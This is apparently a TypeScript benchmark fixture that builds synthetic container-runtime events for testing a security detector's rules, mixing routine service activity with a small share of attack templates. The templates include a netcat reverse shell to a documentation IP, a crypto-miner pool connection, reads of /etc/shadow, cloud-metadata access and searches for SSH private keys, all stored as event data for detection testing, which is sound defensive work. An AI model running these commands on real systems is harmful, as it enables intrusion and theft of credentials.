import {
  createEventCodec,
  decodeEvent,
  type Event,
  type Event__Output,
  type Process,
} from '@mamori/proto';
import { CONTAINERS } from '../ingest/events.js';

/**
 * The events of bench:rules: what the detector sees on the bus from a few nodes running the
 * containers of a municipal cluster. Most events are routine (services starting helpers,
 * reading their configuration and libraries, writing logs, talking to each other); a small
 * share ({@link ATTACK_SHARE}) is what rules exist for, so that evaluation does what it does in
 * production: mostly decide that nothing matches.
 */

/** The kinds of event and how often they come (percent). */
export const RULES_EVENT_MIX = {
  process_exec: 30,
  file_open: 40,
  network_connect: 10,
  process_exit: 10,
  dns_query: 10,
} as const;
export type MixKind = keyof typeof RULES_EVENT_MIX;

/** One event in this many is an attack template (1 %). */
export const ATTACK_SHARE = 100;

const HOSTS = ['node-a1', 'node-a2', 'node-b1', 'node-b2'];

interface Program {
  exe: string;
  args: string[];
  parent: [name: string, exe: string];
}

// Programs a node runs every minute: services, their helpers, probes, cron jobs.
const PROGRAMS: Program[] = [
  { exe: '/usr/sbin/nginx', args: ['nginx', '-g', 'daemon off;'], parent: ['tini', '/sbin/tini'] },
  {
    exe: '/usr/local/bin/node',
    args: ['node', '--enable-source-maps', 'dist/server.js'],
    parent: ['tini', '/sbin/tini'],
  },
  {
    exe: '/usr/bin/python3',
    args: ['python3', '-m', 'gunicorn', '-w', '4', 'app:app'],
    parent: ['tini', '/sbin/tini'],
  },
  {
    exe: '/opt/java/openjdk/bin/java',
    args: ['java', '-Xmx1g', '-jar', '/usr/share/opensearch/lib/opensearch.jar'],
    parent: ['opensearch', '/usr/share/opensearch/bin/opensearch'],
  },
  {
    exe: '/usr/lib/postgresql/16/bin/postgres',
    args: ['postgres', '-D', '/var/lib/postgresql/data'],
    parent: ['docker-entrypoint', '/usr/local/bin/docker-entrypoint.sh'],
  },
  {
    exe: '/usr/bin/curl',
    args: ['curl', '-fsS', '--max-time', '2', 'http://localhost:8080/healthz'],
    parent: ['kubelet', '/usr/bin/kubelet'],
  },
  {
    exe: '/usr/bin/pg_isready',
    args: ['pg_isready', '-U', 'postgres', '-h', '127.0.0.1'],
    parent: ['containerd-shim', '/usr/bin/containerd-shim-runc-v2'],
  },
  { exe: '/bin/date', args: ['date', '+%s'], parent: ['node', '/usr/local/bin/node'] },
  { exe: '/bin/sleep', args: ['sleep', '30'], parent: ['tax-batch', '/app/bin/tax-batch'] },
  {
    exe: '/usr/bin/gzip',
    args: ['gzip', '-9', '/var/log/app/app.log.1'],
    parent: ['logrotate', '/usr/sbin/logrotate'],
  },
  {
    exe: '/usr/bin/awk',
    args: ['awk', '{print $1}', '/proc/loadavg'],
    parent: ['node_exporter', '/bin/node_exporter'],
  },
  {
    exe: '/usr/bin/git',
    args: ['git', 'rev-parse', 'HEAD'],
    parent: ['node', '/usr/local/bin/node'],
  },
];

// Files opened for reading: configuration, certificates, libraries, application code.
const READ_FILES = [
  '/etc/nginx/nginx.conf',
  '/etc/nginx/conf.d/default.conf',
  '/etc/hosts',
  '/etc/resolv.conf',
  '/etc/nsswitch.conf',
  '/etc/ssl/certs/ca-certificates.crt',
  '/etc/localtime',
  '/usr/lib/x86_64-linux-gnu/libssl.so.3',
  '/lib/x86_64-linux-gnu/libc.so.6',
  '/usr/lib/python3.11/json/__init__.py',
  '/app/node_modules/express/lib/router/index.js',
  '/app/config/settings.yaml',
  'dist/server.js',
  '/usr/share/zoneinfo/Asia/Tokyo',
  '/proc/self/status',
];

// Files opened for writing: logs, data, uploads, caches.
const WRITE_FILES = [
  '/var/log/nginx/access.log',
  '/var/log/app/app.log',
  '/var/lib/postgresql/data/base/16384/2619',
  '/var/lib/postgresql/data/pg_wal/000000010000000000000042',
  '/tmp/upload-8f2a1c.pdf',
  '/app/cache/session-1832.json',
];

// open(2) flags: O_RDONLY, O_RDONLY|O_CLOEXEC; O_WRONLY|O_CREAT|O_APPEND, O_RDWR|O_CREAT.
const READ_FLAGS = [0, 0o2000000];
const WRITE_FLAGS = [0o2101, 0o102];

const SERVICES: [address: string, port: number][] = [
  ['10.43.0.15', 5432],
  ['10.43.2.40', 9200],
  ['10.43.1.7', 8080],
  ['10.43.0.10', 53],
  ['142.250.196.110', 443],
  ['10.43.3.22', 6379],
];

const DOMAINS = [
  'api.tax.city.example',
  'records-db.records.svc.cluster.local',
  'registry.city.example',
  'ocsp.pki.goog',
  'time.google.com',
];

/** Events that rules exist for: each fires at least one rule of Falco's or Mamori's. */
const ATTACKS: ((i: number) => Event)[] = [
  (i) => exec(i, { exe: '/tmp/xmrig', args: ['/tmp/xmrig', '-o', 'stratum+tcp://pool:3333'] }),
  (i) => exec(i, { exe: '/bin/bash', args: ['bash'] }, { tty: 'pts/0' }, ['runc', '/usr/bin/runc']),
  (i) => open(i, '/etc/shadow', 0, { exe: '/usr/bin/python3', args: ['python3', 'dump.py'] }),
  (i) =>
    exec(i, {
      exe: '/bin/nc',
      args: ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
    }),
  (i) => connect(i, ['203.0.113.50', 3333], { exe: '/tmp/kworker', args: ['kworker'] }),
  (i) => connect(i, ['169.254.169.254', 80], { exe: '/usr/bin/curl', args: ['curl', 'x'] }),
  (i) => exec(i, { exe: '/dev/shm/.x', args: ['/dev/shm/.x'] }),
  (i) => exec(i, { exe: '/usr/bin/find', args: ['find', '/', '-name', 'id_rsa'] }),
  (i) => exec(i, { exe: '/usr/bin/apt-get', args: ['apt-get', 'install', '-y', 'nmap'] }),
];

function pick<T>(items: readonly T[], i: number): T {
  return items[i % items.length]!;
}

function where(i: number): Pick<Event, 'host' | 'workload'> {
  const host = {
    hostname: pick(HOSTS, i),
    machine_id: 'b1946ac92492d2347c6235b4d2611184',
    kernel: '6.1.0-27-amd64',
  };
  // One event in eight comes from the node itself (kubelet, node_exporter, …).
  if (i % 8 === 7) return { host, workload: null };
  const c = pick(CONTAINERS, i >> 3);
  return {
    host,
    workload: {
      container_id: c.id,
      container_name: c.name,
      runtime: 'containerd',
      pod_name: c.pod,
      namespace: c.namespace,
      image_repository: c.image,
      image_tag: c.tag,
      image_digest: `sha256:${c.id}`,
    },
  };
}

function processOf(
  i: number,
  p: Pick<Program, 'exe' | 'args'>,
  extra: Partial<Process> = {},
  parent = ['node', '/usr/local/bin/node'],
): Process {
  return {
    pid: 1000 + ((i * 37) % 30_000),
    ppid: 900 + (i % 97),
    name: p.exe.slice(p.exe.lastIndexOf('/') + 1),
    exe: p.exe,
    args: p.args,
    cwd: '/app/',
    uid: i % 3 === 0 ? 0 : 1000,
    gid: 1000,
    user: i % 3 === 0 ? 'root' : 'app',
    start_unix_micros: 1_764_000_000_000_000 + i,
    ancestors: [
      { pid: 900 + (i % 97), name: parent[0], exe: parent[1], args: [parent[0]!] },
      { pid: 1, name: 'tini', exe: '/sbin/tini', args: ['tini', '--'] },
    ],
    stdin_type: 'pipe',
    stdout_type: 'pipe',
    stderr_type: 'pipe',
    ...extra,
  };
}

function exec(
  i: number,
  p: Pick<Program, 'exe' | 'args'>,
  extra: Partial<Process> = {},
  parent?: [string, string],
): Event {
  return { ...where(i), process_exec: { process: processOf(i, p, extra, parent) } };
}

function open(i: number, path: string, flags: number, p: Pick<Program, 'exe' | 'args'>): Event {
  const write = (flags & 3) !== 0;
  return { ...where(i), file_open: { process: processOf(i, p), path, flags, write } };
}

function connect(i: number, to: [string, number], p: Pick<Program, 'exe' | 'args'>): Event {
  return {
    ...where(i),
    network_connect: {
      process: processOf(i, p),
      connection: {
        protocol: 'L4_PROTOCOL_TCP',
        local_address: `10.42.${i % 8}.${(i * 13) % 250}`,
        local_port: 30_000 + (i % 20_000),
        remote_address: to[0],
        remote_port: to[1],
      },
    },
  };
}

function routine(kind: MixKind, i: number): Event {
  const program = pick(PROGRAMS, i * 7 + 3);
  switch (kind) {
    case 'process_exec':
      return exec(i, program, {}, program.parent);
    case 'file_open': {
      // Two opens in three read.
      if (i % 3 !== 2) return open(i, pick(READ_FILES, i >> 2), pick(READ_FLAGS, i), program);
      return open(i, pick(WRITE_FILES, i >> 2), pick(WRITE_FLAGS, i), program);
    }
    case 'network_connect':
      return connect(i, pick(SERVICES, i >> 1), program);
    case 'process_exit':
      return {
        ...where(i),
        process_exit: {
          process: processOf(i, program),
          exit_code: i % 13 === 0 ? 1 : 0,
          signal: i % 29 === 0 ? 15 : 0,
        },
      };
    case 'dns_query':
      return {
        ...where(i),
        dns_query: {
          process: processOf(i, program),
          query: pick(DOMAINS, i),
          query_type: i % 2 === 0 ? 'A' : 'AAAA',
          response_code: 'NOERROR',
          answers: ['10.43.0.15'],
          server_address: '10.43.0.10',
        },
      };
  }
}

// The mix as a 100-slot table, interleaved so that consecutive events differ in kind.
const SLOTS: MixKind[] = (() => {
  const slots: MixKind[] = [];
  const left = Object.entries(RULES_EVENT_MIX) as [MixKind, number][];
  while (slots.length < 100) {
    for (const entry of left) {
      if (entry[1] > 0) {
        slots.push(entry[0]);
        entry[1]--;
      }
    }
  }
  return slots;
})();

/**
 * How events are decoded: `wire` with `decodeEvent` (what the detector does: objects of one
 * shape per message type), `codec` with the bus codec (protobufjs `decode` + `toObject`).
 */
export const RULE_EVENT_DECODERS = ['wire', 'codec'] as const;
export type RuleEventDecoder = (typeof RULE_EVENT_DECODERS)[number];

/**
 * `count` distinct events as a bus consumer decodes them: built as objects, encoded with the
 * bus codec and decoded again with `decoder` (each has its own id, timestamp and process).
 */
export function buildRuleEvents(
  count: number,
  decoder: RuleEventDecoder = 'wire',
): Event__Output[] {
  const codec = createEventCodec();
  const events: Event__Output[] = [];
  for (let i = 0; i < count; i++) {
    const attack = i % ATTACK_SHARE === ATTACK_SHARE - 1;
    const event = attack
      ? pick(ATTACKS, Math.floor(i / ATTACK_SHARE))(i)
      : routine(pick(SLOTS, i * 37), i);
    const bytes = codec.encode({
      id: `evt-${i.toString(36)}`,
      tenant_id: 'city-a',
      agent_id: `agent-${event.host?.hostname ?? 'x'}`,
      observed_unix_micros: 1_764_000_000_000_000 + i * 10,
      received_unix_micros: 1_764_000_000_001_000 + i * 10,
      ...event,
    });
    events.push(decoder === 'wire' ? decodeEvent(bytes) : codec.decode(bytes));
  }
  return events;
}
